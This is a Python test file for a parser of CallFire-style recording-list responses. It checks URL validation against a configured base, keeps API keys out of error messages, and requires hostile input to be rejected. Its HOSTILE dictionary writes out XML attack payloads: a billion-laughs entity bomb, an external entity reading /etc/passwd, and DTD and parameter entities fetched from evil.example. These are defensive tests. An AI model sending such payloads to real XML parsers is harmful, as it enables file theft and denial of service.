import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cffs.core.errors import AccessRefused, CffsError, MalformedAnswer, ServerFailure
from cffs.core.values import RecordingList
from cffs.core.wire_v1 import parse_recording_list

DOCUMENTS = Path(__file__).parent / "documents"
BASE_URL = "https://www.callfire.com/cloud/1"
URL = f"{BASE_URL}/files/recording/"
#: Pieces of the grammar, good and hostile, in any order.
PIECES = st.lists(
    st.sampled_from(
        ['<?xml version="1.0" encoding="UTF-8"?>', '<?xml version="1.0" encoding="UTF-16"?>', "<fileResponse>",
         "</fileResponse>", "<successful>", "true", "</successful>", "<recording>", "</recording>", URL + "5", "&lt;",
         "&a;", "<!DOCTYPE a [", '<!ENTITY a "b">', "]>", "<![CDATA[", "]]>", "<!--", "-->", "<?pi x?>", "\x00", "é",
         '{"fileResponse":', '"recording":', '"successful":', "[", "]", "{", "}", ",", "5", "null"]
    )
).map("".join)  # fmt: skip


def parse(text: str | bytes) -> RecordingList:
    return parse_recording_list(text.encode() if isinstance(text, str) else text, base_url=BASE_URL)


def xml(*recordings: str, successful: str = "true", description: str = "Recordings Fetched") -> str:
    entries = "".join(f"<recording>{recording}</recording>" for recording in recordings)
    return (
        f"<fileResponse><description>{description}</description><successful>{successful}</successful>"
        f"<callid>71</callid><campaignid>9</campaignid>{entries}</fileResponse>"
    )


def test_the_document_as_printed() -> None:
    """The first document's example, letter by letter: a success without a usable id, both entries counted."""
    listing = parse((DOCUMENTS / "v1_list_as_printed.xml").read_bytes())
    assert listing == RecordingList(campaign_id=None, call_id=None, file_ids=(), refused=2)


def test_the_document_with_ids() -> None:
    """The same example with numbers where it prints X gives the ids in the order sent."""
    listing = parse((DOCUMENTS / "v1_list_with_ids.xml").read_bytes())
    assert (listing.campaign_id, listing.call_id, listing.file_ids, listing.refused) == (9, 71, (5550003, 5550004), 0)


FIELDS = {"description": "Recordings Fetched", "successful": True, "callid": 71, "campaignid": 9}


@pytest.mark.parametrize(
    "wrap", [lambda fields: fields, lambda fields: {"fileResponse": fields}], ids=["bare", "wrapped"]
)
@pytest.mark.parametrize(
    ("fields", "file_ids"),
    [
        ({}, ()),
        ({"recording": None}, ()),
        ({"recording": []}, ()),
        ({"recording": URL + "5"}, (5,)),
        ({"recording": [URL + "5", URL + "6", URL + "5"]}, (5, 6)),
        ({"recording": 5}, (5,)),
        ({"recording": ["5", 6]}, (5, 6)),
        ({"successful": "true", "callid": "71", "campaignid": "9", "recording": [URL + "5"]}, (5,)),
    ],
)
def test_the_forms_of_json(wrap, fields: dict[str, object], file_ids: tuple[int, ...]) -> None:
    """Bare or wrapped, recordings absent, null, single or a list, values native or as strings."""
    listing = parse(json.dumps(wrap({**FIELDS, **fields})))
    assert (listing.campaign_id, listing.call_id, listing.file_ids, listing.refused) == (9, 71, file_ids, 0)


@pytest.mark.parametrize(
    "entry",
    [
        URL + "5",
        URL + "5?apikey=SECRET",
        URL + "5#x",
        "https://WWW.callfire.com:443/cloud/1/files/recording/5",
        " 5 ",
        f"\n  {URL}5\n",
    ],
)
def test_spellings_of_one_recording(entry: str) -> None:
    """A URL below the base, with any query, or the bare id, is the same file, listed once."""
    assert parse(xml(entry, "5", entry)).file_ids == (5,)


@pytest.mark.parametrize(
    "entry",
    [
        "https://evil.example/cloud/1/files/recording/5",
        "https://callfire.com/cloud/1/files/recording/5",
        "http://www.callfire.com/cloud/1/files/recording/5",
        "https://www.callfire.com:8443/cloud/1/files/recording/5",
        "https://www.callfire.com:x/cloud/1/files/recording/5",
        "https://www.callfire.com@evil.example/cloud/1/files/recording/5",
        "https://user:pw@www.callfire.com/cloud/1/files/recording/5",
        "https://www.callfire.com/cloud/2/files/recording/5",
        "https://www.callfire.com/cloud/1/files/recording/../../5",
        "https://www.callfire.com/cloud/1/files/recording/dynamic/5",
        "https://www.callfire.com/cloud/1/files/recording/",
        "//www.callfire.com/cloud/1/files/recording/5",
        "/cloud/1/files/recording/5",
        "file:///cloud/1/files/recording/5",
        "https://[::1/5",
        URL + "0",
        URL + "-5",
        URL + "5x",
        URL + "9" * 30,
        "XXX",
        "",
    ],
)
def test_foreign_and_broken_entries_are_counted(entry: str) -> None:
    """An entry that is not below the configured base is refused, and hides none of the others."""
    listing = parse(xml(URL + "1", entry, URL + "2"))
    assert (listing.file_ids, listing.refused) == ((1, 2), 1)


def test_json_entries_of_other_types_are_counted() -> None:
    """Objects, nulls and booleans among the entries are refused one by one."""
    listing = parse(json.dumps({"successful": True, "recording": [{"a": 1}, None, True, 5, -1, 1e30]}))
    assert (listing.file_ids, listing.refused) == ((5,), 5)


def test_a_base_with_a_port_and_another_path() -> None:
    """The base is the configured one, whatever it is."""
    body = b"<fileResponse><successful>true</successful><recording>http://127.0.0.1:81/x/files/recording/5</recording></fileResponse>"
    assert parse_recording_list(body, base_url="http://127.0.0.1:81/x/").file_ids == (5,)
    assert parse_recording_list(body, base_url="http://127.0.0.1:82/x").refused == 1


@pytest.mark.parametrize(
    "description", ["Invalid API key", "apikey missing", "Not authorized", "Authorisation failed", "access denied"]
)
@pytest.mark.parametrize("form", ["xml", "json"])
def test_a_refused_key_in_the_body(description: str, form: str) -> None:
    """successful=false that speaks of the key or of authorisation is AccessRefused."""
    fields = {"description": description, "successful": False}
    with pytest.raises(AccessRefused):
        parse(json.dumps(fields) if form == "json" else xml(successful="false", description=description))


@pytest.mark.parametrize("description", ["Something broke", "", "monkey business", "Call not found"])
def test_any_other_failure_in_the_body(description: str) -> None:
    """successful=false about anything else is a failure with status 200, its description in the message."""
    with pytest.raises(ServerFailure) as caught:
        parse(xml(URL + "5", successful="false", description=description))
    assert caught.value.status == 200
    assert description in str(caught.value)


def test_a_failure_never_tells_a_secret() -> None:
    """A description that echoes the key is told without it."""
    with pytest.raises(AccessRefused) as caught:
        parse(xml(successful="false", description=f"bad key in {URL}5?apikey=SECRET, apikey=SECRET"))
    assert "SECRET" not in str(caught.value)


def test_sibling_spellings() -> None:
    """A namespace, other cases, `success` and entities of the standard are taken."""
    fields = f"<success>1</success><Recording>{URL}5?a=1&amp;b=2</Recording>"
    body = f'<a:FileResponse xmlns:a="urn:x">{fields}</a:FileResponse>'
    assert parse(body).file_ids == (5,)


LAUGHS = (
    '<!DOCTYPE l [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(9))
    + "]><fileResponse><successful>true</successful><recording>&j;</recording></fileResponse>"
)
HOSTILE = {
    "billion laughs": LAUGHS.encode(),
    "external entity": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><fileResponse><successful>true</successful><recording>&x;</recording></fileResponse>',
    "external DTD": b'<!DOCTYPE fileResponse SYSTEM "http://evil.example/x.dtd"><fileResponse><successful>true</successful></fileResponse>',
    "parameter entity": b'<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]><fileResponse/>',
    "empty DTD": b"<!DOCTYPE fileResponse><fileResponse><successful>true</successful></fileResponse>",
    "undefined entity": b"<fileResponse><successful>&x;</successful></fileResponse>",
    "utf-16": xml("5").encode("utf-16"),
    "utf-16 without mark": xml("5").encode("utf-16-le"),
    "utf-32": xml("5").encode("utf-32"),
    "latin-1": xml("5", description="é").encode("latin-1"),
    "ebcdic": xml("5").encode("cp500"),
    "deep": b"<fileResponse>" + b"<a>" * 200_000 + b"</a>" * 200_000 + b"</fileResponse>",
    "many": b"<fileResponse>" + b"<a/>" * 200_000 + b"</fileResponse>",
    "large": b"<fileResponse>" + b" " * 17 * 2**20 + b"</fileResponse>",
    "cut": xml("5").encode()[:-3],
    "page": b"<!doctype html><html><title>Log in</title></html>",
    "xhtml": b"<html><successful>true</successful></html>",
    "says nothing": b"<fileResponse/>",
    "no boolean": b"<fileResponse><successful>perhaps</successful></fileResponse>",
    "empty": b"",
    "text": b"OK",
    "json list": b"[]",
    "json that says nothing": b"{}",
    "json error": b'{"message": "x"}',
    "json deep": b'{"recording":' * 100_000,
    "json trailing": b'{"successful": true} x',
    "json wrapped null": b'{"fileResponse": null}',
    "control character": b"<fileResponse><successful>true</successful>\x01</fileResponse>",
}


@pytest.mark.parametrize("body", HOSTILE.values(), ids=HOSTILE)
def test_hostile_lists_are_malformed(body: bytes) -> None:
    """DTDs, entities, encodings, depth, size, error pages: MalformedAnswer, quickly and without a request."""
    with pytest.raises(MalformedAnswer):
        parse(body)


@given(
    st.binary()
    | PIECES.map(str.encode)
    | PIECES.map(lambda text: ("<fileResponse>" + text).encode())
    | st.text().map(str.encode)
)
def test_any_bytes_give_a_list_or_a_cffs_error(body: bytes) -> None:
    """Nothing but a CffsError comes out, whatever the grammar."""
    try:
        parse(body)
    except CffsError:
        return


def test_entries_without_a_flag_speak_for_themselves() -> None:
    """A list that has entries needs no success flag."""
    assert parse(json.dumps({"recording": URL + "5"})).file_ids == (5,)
